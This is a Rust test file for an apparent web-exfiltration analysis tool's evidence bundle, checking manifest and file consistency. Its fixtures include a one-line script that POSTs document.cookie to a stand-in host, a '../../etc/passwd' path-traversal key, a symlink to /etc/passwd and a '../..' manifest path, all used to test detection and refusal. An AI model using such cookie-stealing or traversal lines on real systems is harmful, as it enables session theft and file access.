//! The evidence bundle's files and manifest: layout for one and several
//! captures, and every way the files can disagree with the manifest.

use std::collections::BTreeMap;

use outflow_bundle::{AnalysisSettings, Bundle, FileProblem};

/// A report of `capture` made by the pipeline from `sources` without
/// attribution, as `outflow scan --out` makes it.
fn report_of(
    capture: &outflow_model::Capture,
    sources: &BTreeMap<String, String>,
) -> outflow_model::Report {
    let js = outflow_js::Options::default();
    let pipeline = outflow_pipeline::Pipeline {
        js: &js,
        intel: None,
        site: None,
        tool_version: "0.1.0",
    };
    outflow_pipeline::report_capture(
        capture.clone(),
        outflow_pipeline::Sources::Map(sources),
        &pipeline,
    )
}

/// A capture with one request body, read from JSON so that fields added
/// later with defaults need no change here.
fn capture(target: &str) -> outflow_model::Capture {
    serde_json::from_value(serde_json::json!({
        "target": target,
        "source": { "kind": "browser", "headless": true },
        "started_at": "2026-11-29T05:00:00Z",
        "duration_ms": 1000,
        "frames": [],
        "scripts": [],
        "requests": [{
            "id": "1",
            "url": "https://collect.test/c",
            "method": "POST",
            "resource_type": "Fetch",
            "headers": [],
            "body": { "text": "aGVsbG8=", "base64": true, "size": 5 },
            "initiator": { "kind": "script" },
            "time_ms": 10
        }],
        "canaries": [],
        "errors": []
    }))
    .expect("a capture")
}

/// Adds `capture` with its scripts and a report made from them.
fn add_analysed(
    bundle: &Bundle,
    name: &str,
    capture: &outflow_model::Capture,
    sources: &BTreeMap<String, String>,
) -> std::path::PathBuf {
    bundle.add_scripts(sources).expect("scripts written");
    let report = report_of(capture, sources);
    bundle
        .add_capture(name, capture, &report, AnalysisSettings::default(), "0.1.0")
        .expect("capture added")
}

fn add(bundle: &Bundle, name: &str) -> std::path::PathBuf {
    let mut sources = BTreeMap::new();
    sources.insert(
        outflow_bundle::sha256_hex(b"console.log(1)"),
        "console.log(1)".to_string(),
    );
    sources.insert("../../etc/passwd".to_string(), "not a hash".to_string());
    add_analysed(
        bundle,
        name,
        &capture(&format!("https://{name}/")),
        &sources,
    )
}

#[test]
fn one_capture_at_the_top_then_one_folder_each() {
    let dir = tempfile::tempdir().expect("temp dir");
    let bundle = Bundle::create(dir.path(), &[]).expect("bundle");
    let first = add(&bundle, "a.test");
    assert_eq!(first, dir.path().join(""));
    assert!(dir.path().join("capture.json").is_file());
    let body = outflow_bundle::sha256_hex(b"hello");
    assert!(
        dir.path().join(format!("bodies/{body}.bin")).is_file(),
        "base64 body kept as raw bytes"
    );
    assert_eq!(
        std::fs::read_dir(dir.path().join("scripts"))
            .expect("scripts")
            .count(),
        1,
        "only well-formed hashes name files"
    );
    add(&bundle, "b.test");
    let manifest = bundle.manifest().expect("manifest");
    let paths: Vec<&str> = manifest.captures.iter().map(|c| c.path.as_str()).collect();
    assert_eq!(paths, ["a.test", "b.test"]);
    assert!(!dir.path().join("capture.json").exists());
    assert!(
        dir.path().join("a.test/bodies").is_dir(),
        "bodies moved along"
    );
    assert!(bundle.check_files(&manifest).expect("checked").is_empty());
    // The same capture again replaces itself.
    add(&bundle, "b.test");
    assert_eq!(bundle.manifest().expect("manifest").captures.len(), 2);
}

#[test]
fn every_disagreement_is_reported() {
    let dir = tempfile::tempdir().expect("temp dir");
    let bundle = Bundle::create(dir.path(), &[]).expect("bundle");
    add(&bundle, "a.test");
    let manifest = bundle.manifest().expect("manifest");
    std::fs::write(dir.path().join("report.sarif"), "changed").expect("write");
    std::fs::remove_file(dir.path().join("report.html")).expect("remove");
    std::fs::write(dir.path().join("extra.txt"), "x").expect("write");
    let script = format!(
        "scripts/{}.js",
        outflow_bundle::sha256_hex(b"console.log(1)")
    );
    std::fs::write(dir.path().join(&script), "console.log(2)").expect("write");
    #[cfg(unix)]
    std::os::unix::fs::symlink("/etc/passwd", dir.path().join("link")).expect("symlink");
    let problems = bundle.check_files(&manifest).expect("checked");
    let has = |f: &dyn Fn(&FileProblem) -> bool| problems.iter().any(f);
    assert!(has(
        &|p| matches!(p, FileProblem::Changed { path, .. } if path == "report.sarif")
    ));
    assert!(has(
        &|p| matches!(p, FileProblem::Missing(path) if path == "report.html")
    ));
    assert!(has(
        &|p| matches!(p, FileProblem::Unlisted(path) if path == "extra.txt")
    ));
    assert!(has(
        &|p| matches!(p, FileProblem::MisNamed { path, .. } if *path == script)
    ));
    #[cfg(unix)]
    assert!(has(
        &|p| matches!(p, FileProblem::Refused(why) if why.contains("symbolic link"))
    ));
}

#[test]
fn a_manifest_cannot_point_outside_the_bundle() {
    let dir = tempfile::tempdir().expect("temp dir");
    let bundle = Bundle::create(dir.path(), &[]).expect("bundle");
    add(&bundle, "a.test");
    let path = dir.path().join("manifest.json");
    let mut manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&path).expect("read")).expect("JSON");
    manifest["captures"][0]["path"] = serde_json::json!("../..");
    std::fs::write(&path, serde_json::to_vec(&manifest).expect("JSON")).expect("write");
    assert!(bundle.manifest().is_err());
}

const SCRIPT: &str = "fetch('https://collect.test/c', {method: 'POST', body: document.cookie});";

/// A bundle of one capture with one script, analysed.
fn analysed_bundle(root: &std::path::Path) -> Bundle {
    let bundle = Bundle::create(root, &[]).expect("bundle");
    let hash = outflow_bundle::sha256_hex(SCRIPT.as_bytes());
    let mut capture = capture("https://a.test/");
    capture.scripts.push(
        serde_json::from_value(serde_json::json!({
            "id": "s1",
            "origin": { "kind": "external", "url": "https://a.test/app.js" },
            "sha256": hash,
            "size": SCRIPT.len(),
        }))
        .expect("a script"),
    );
    let sources = BTreeMap::from([(hash, SCRIPT.to_string())]);
    add_analysed(&bundle, "a.test", &capture, &sources);
    bundle
}

#[test]
fn a_report_made_from_the_bundle_stands() {
    let dir = tempfile::tempdir().expect("temp dir");
    analysed_bundle(dir.path());
    let verification = outflow_bundle::verify(dir.path(), "0.1.0").expect("verified");
    let text = verification.to_string();
    assert!(verification.stands(), "{text}");
    assert_eq!(verification.captures.len(), 1);
    assert!(text.ends_with("the report stands\n"), "{text}");
    assert!(!text.contains("note: written by"), "{text}");
    let later = outflow_bundle::verify(dir.path(), "9.9.9").expect("verified");
    assert!(
        later.to_string().contains("note: written by outflow 0.1.0"),
        "{later}"
    );
}

#[test]
fn the_scripts_analysed_again_are_the_bundle_s() {
    let dir = tempfile::tempdir().expect("temp dir");
    let bundle = analysed_bundle(dir.path());
    let manifest = bundle.manifest().expect("manifest");
    let (capture, _) = bundle.load(&manifest.captures[0]).expect("loaded");
    let scripts = bundle.scripts_of(&capture, 1 << 20);
    assert_eq!(scripts.values().collect::<Vec<_>>(), [SCRIPT]);
    assert!(
        bundle.scripts_of(&capture, 10).is_empty(),
        "longer than the limit: not analysed"
    );
    let hash = outflow_bundle::sha256_hex(SCRIPT.as_bytes());
    std::fs::write(dir.path().join(format!("scripts/{hash}.js")), "1").expect("write");
    let verification = outflow_bundle::verify(dir.path(), "0.1.0").expect("verified");
    assert!(!verification.stands());
    assert!(
        verification
            .to_string()
            .ends_with("the report does NOT stand\n")
    );
}

#[test]
fn a_folder_without_a_manifest_cannot_be_verified() {
    let dir = tempfile::tempdir().expect("temp dir");
    let error =
        outflow_bundle::verify(&dir.path().join("missing"), "0.1.0").expect_err("no manifest");
    assert!(matches!(
        error,
        outflow_bundle::VerifyError::Manifest { .. }
    ));
    assert!(
        error
            .to_string()
            .starts_with("reading the bundle's manifest in ")
    );
}

#[test]
fn a_capture_without_a_report_is_written_bare() {
    let dir = tempfile::tempdir().expect("temp dir");
    let bundle = Bundle::create(dir.path(), &[]).expect("bundle");
    let sources = BTreeMap::from([(
        outflow_bundle::sha256_hex(b"console.log(1)"),
        "console.log(1)".to_string(),
    )]);
    let path = bundle
        .add_bare_capture("a.test.cn", &capture("https://a.test/"), &sources)
        .expect("written");
    assert_eq!(path, dir.path().join("a.test.cn.capture.json"));
    let read: outflow_model::Capture =
        serde_json::from_slice(&std::fs::read(&path).expect("read")).expect("a capture");
    assert_eq!(read.target, "https://a.test/");
    assert_eq!(
        std::fs::read_dir(dir.path().join("scripts"))
            .expect("scripts")
            .count(),
        1
    );
    assert!(!dir.path().join("manifest.json").exists());
}
